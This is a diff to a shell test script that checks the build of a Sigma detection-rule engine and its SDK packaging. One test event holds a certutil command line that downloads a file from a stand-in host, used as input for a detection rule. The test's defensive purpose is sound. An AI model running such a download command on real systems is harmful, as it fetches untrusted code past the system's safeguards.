@@ -26,6 +26,19 @@ export PKG_CONFIG_PATH="$found${PKG_CONFIG_PATH:+:$PKG_CONFIG_PATH}"
   $(pkg-config --cflags --libs rulemap-plugins)
 "$here/embed_run.sh" "$work/embed" "$examples"
 
+# The Sigma engine alone; and who names it as a component is told where it is.
+sigma() { # COMPONENT
+  cmake -S "$here/sigma" -B "$work/sigma-$1" -G Ninja -DCMAKE_PREFIX_PATH="$work/prefix" \
+    -DCMAKE_CXX_COMPILER="$compiler" -DCMAKE_CXX_FLAGS="$flags" -DRULEMAP_COMPONENT="$1" 2>&1
+}
+sigma lib >/dev/null
+cmake --build "$work/sigma-lib" >/dev/null
+titles=$("$work/sigma-lib/matches" "$examples/rules/process_creation/certutil_fetches_file.yml" \
+  '{"Image":"C:\\certutil.exe","CommandLine":"certutil -urlcache -f http://a.example/b b"}')
+[ "$titles" = "Certutil Used to Fetch a File" ] || { echo "$titles"; exit 1; }
+if told=$(sigma sigma); then echo "there is no component sigma"; exit 1; fi
+grep -q "and none *that is called sigma" <<<"$(tr '\n' ' ' <<<"$told" | tr -s ' ')" || { echo "$told"; exit 1; }
+
 # A plugin needs the SDK's headers alone.
 cat >"$work/acme.cc" <<'END'
 #include "rulemap/sdk/plugin.h"
@@ -44,4 +57,4 @@ export PKG_CONFIG_PATH="${found/#"$work/prefix"/"$work/sdk"}"
   -o "$work/acme.so" "$work/acme.cc" $(pkg-config --cflags rulemap-sdk)
 exported=$(nm -D --defined-only "$work/acme.so" | grep -c ' [A-Z] ')
 [ "$exported" = 1 ] || { nm -D --defined-only "$work/acme.so"; exit 1; }
-echo "find_package, pkg-config and the SDK alone: all three work"
+echo "find_package, pkg-config, the Sigma engine and the SDK alone: all work"
